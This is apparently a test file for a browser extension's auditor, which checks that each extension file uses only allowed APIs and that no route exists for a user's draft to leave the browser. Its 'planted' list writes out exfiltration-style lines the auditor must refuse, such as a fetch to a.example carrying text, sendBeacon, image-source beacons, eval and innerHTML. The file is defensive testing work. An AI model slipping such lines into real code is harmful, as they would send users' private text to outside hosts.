// No way out: what the content script, the background, the frame and our own
// pages reach is read, and every way by which a draft could leave is refused.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { network, theAsking } from './network';
import { audit, auditText, reach, type Allowance, type Finding } from './ways-out';

const nothing: Allowance = { exactly: {}, chrome: [], packages: [] };

const background: Allowance = {
  exactly: {
    "fetch(chrome.runtime.getURL('engine.wasm'))": 1,
    "indexedDB.open(database, 1)": 1,
    "indexedDB.open(rulesDatabase, 1)": 1,
    "indexedDB.open(tallyDatabase, 1)": 1,
    // asidePages is a list of addresses of our own; nothing is added to them.
    'chrome.tabs.create({ url: chrome.runtime.getURL(asidePages[page]) })': 1,
    // Delete everything.
    'indexedDB.databases()': 1,
    'indexedDB.deleteDatabase(name)': 1,
    'caches.keys()': 1,
    'caches.delete(name)': 1,
    'chrome.storage.local.clear()': 1,
    'chrome.storage.sync.clear()': 1,
    "chrome.tabs.create({ url: chrome.runtime.getURL('pages/welcome.html') })": 1,
  },
  chrome: [
    'runtime.onMessage', 'runtime.onStartup', 'runtime.onInstalled', 'runtime.getURL', 'runtime.id', 'runtime.getManifest',
    'i18n.getMessage', 'action', 'permissions', 'scripting', 'tabs.query', 'tabs.sendMessage',
    'storage.managed',
    // Addresses of requests, and drafts that the worker keeps for later, for as long as the browser runs; alarms delete those.
    'storage.session', 'alarms',
  ],
  packages: [],
};

/** A file for the browser's downloads. */
const handingOut = {
  "document.createElement('a')": 1,
  "link.href = URL.createObjectURL(new Blob([bytes], { type: 'application/octet-stream' }))": 1,
};

const entries: Record<string, Allowance> = {
  'extension/src/content.ts': {
    exactly: {
      "iframe.src = chrome.runtime.getURL('ui/frame.html') + '#' + nonce": 1,
      'iframe.contentWindow?.postMessage({ nonce }, origin, [channel.port2])': 1,
      // src/replace-ways.ts, a rewrite the worker pressed: plain text in place of a selection, and taking it back. insertHTML is not
      // among them. In Firefox its event is made in the page's own world, or the page could not read the words that are for it.
      "document.execCommand('insertText', false, words)": 1,
      "document.execCommand('delete')": 1,
      "document.execCommand('undo')": 1,
      '(document.defaultView as { wrappedJSObject?: PageWorld }).wrappedJSObject ?? null': 1,
    },
    chrome: ['runtime.sendMessage', 'runtime.onMessage', 'runtime.getURL', 'runtime.id', 'dom'],
    packages: [],
  },
  'extension/src/background.ts': background,
  'extension/ui/frame.tsx': {
    // The worker copies the text that a page would not take.
    exactly: { "document.execCommand('copy')": 1 }, chrome: ['runtime.sendMessage', 'i18n'], packages: ['preact', 'preact/hooks'],
  },
  'extension/pages/popup.tsx': ownPage('permissions.request', 'permissions.getAll', 'tabs.get', 'tabs.getCurrent', 'tabs.query'),
  'extension/pages/options.tsx': ownPage('permissions.request', 'permissions.getAll', 'permissions.onAdded', 'permissions.onRemoved'),
  // The one link that is not ours: from the list of an agency's bundle, which the worker may follow.
  'extension/pages/rules.tsx': { ...ownPage(), exactly: { 'href={address}': 1, "document.execCommand('copy')": 1, ...handingOut } },
  'extension/pages/approve.tsx': {
    ...ownPage(),
    // A key of this browser, and the signed file for the downloads.
    exactly: { 'indexedDB.open(keysDatabase, 1)': 1, ...handingOut },
    packages: ['preact', 'preact/hooks', 'age-encryption'],
  },
  'extension/pages/prove.tsx': {
    ...ownPage('runtime.getURL', 'storage.session', 'storage.onChanged'),
    exactly: {
      "fetch(chrome.runtime.getURL('engine.wasm'))": 1,
      // Reads what is stored, to show it.
      'indexedDB.databases()': 1,
      'indexedDB.open(name)': 1,
      'caches.keys()': 1,
      'caches.open(name)': 1,
      'chrome.storage.local.get(null)': 1,
      'chrome.storage.sync.get(null)': 1,
      'chrome.storage.managed.get(null)': 1,
    },
  },
  'extension/pages/welcome.tsx': ownPage(),
  // Counts of what was read, by the id of a post.
  'extension/pages/practice.tsx': { ...ownPage(), exactly: { 'indexedDB.open(database, 1)': 1 } },
  // Each copies its own text, in the worker's press.
  'extension/pages/kept.tsx': copying(),
  'extension/pages/supervision.tsx': copying(),
  'extension/pages/posted.tsx': ownPage(),
  'extension/pages/request.tsx': copying(),
  'extension/pages/tally.tsx': ownPage(),
};

function copying(): Allowance {
  return { ...ownPage(), exactly: { "document.execCommand('copy')": 1 } };
}

function ownPage(...more: string[]): Allowance {
  return {
    exactly: {},
    chrome: ['runtime.sendMessage', 'runtime.getManifest', 'i18n', ...more],
    packages: ['preact', 'preact/hooks'],
  };
}

const told = (findings: Finding[]) => findings.map((f) => `${f.file}:${f.line} ${f.what}`).join('\n');

for (const [entry, allow] of Object.entries(entries)) {
  test(`${entry} has no way out`, () => {
    const findings: Finding[] = [];
    const files = reach(entry, allow.packages, findings);
    findings.push(...audit(files, allow));
    assert.equal(told(findings), '');
  });
}

test('the standard edition has one way out more, and it is the feed’s', () => {
  const findings: Finding[] = [];
  const files = reach('extension/src/background.ts', [], findings, 'standard');
  assert.ok(files.includes(network));
  findings.push(...audit(files, {
    ...background, exactly: { ...background.exactly, [theAsking]: 1 }, chrome: [...background.chrome, 'alarms'],
  }));
  assert.equal(told(findings), '');
});

const planted = [
  'fetch("https://a.example/?" + text)',
  'const { fetch: f } = window',
  'new XMLHttpRequest()',
  'new WebSocket("wss://a.example")',
  'new EventSource(x)',
  'navigator.sendBeacon(x, text)',
  'new Image().src = text',
  'new RTCPeerConnection()',
  'new WebTransport(x)',
  'el.src = text',
  'link.href = text',
  'el.setAttribute("src", text)',
  'el.setAttribute(name, text)',
  'el.setAttribute("onclick", text)',
  'el["src"] = text',
  'el.innerHTML = text',
  'el.outerHTML = text',
  'el.insertAdjacentHTML("beforeend", text)',
  'document.write(text)',
  'window.open(text)',
  'open(text)',
  'eval(text)',
  'new Function(text)',
  'setTimeout("x()", 1)',
  'import(text)',
  'window["fet" + "ch"](text)',
  'globalThis[name]()',
  'document[name]()',
  'navigator["sendBeacon"](x)',
  'const w = window',
  'const w = window as any',
  'location = text',
  'location.href = text',
  'location.assign(text)',
  'top.location = text',
  'document.cookie = text',
  'localStorage.setItem("a", text)',
  'console.log(text)',
  'chrome.storage.local.set({ text })',
  'window.parent.postMessage(text, "*")',
  'document.createElement("img")',
  'document.createElement(name)',
  'style.cssText = `background: url(${x})`',
  '(() => {}).constructor("x")()',
  'document.execCommand("insertHTML", false, text)',
  'document.defaultView.fetch(text)',
  'const { wrappedJSObject: page } = window',
  'const x = <img src={text} />',
  'const x = <p dangerouslySetInnerHTML={{ __html: text }} />',
];

for (const leak of planted) {
  test(`refuses ${leak}`, () => assert.notEqual(told(auditText(leak, nothing)), ''));
}

const harmless = [
  'port.postMessage({ t: "ready" })',
  'this.port?.postMessage(m)',
  'el.textContent = text',
  'document.createElement("div")',
  'const request = { src: 1 }',
  'window.addEventListener("click", f, true)',
  'el.setAttribute("role", "button")',
  'const x = <a href="options.html">o</a>',
  'const x = <a href="prove.html#stored">o</a>',
];

for (const line of harmless) {
  test(`passes ${line}`, () => assert.equal(told(auditText(line, nothing)), ''));
}

test('an allowed line has to be there', () => {
  const findings = audit([], { ...nothing, exactly: { 'a.src = b': 1 } });
  assert.match(told(findings), /there 0 times/);
});
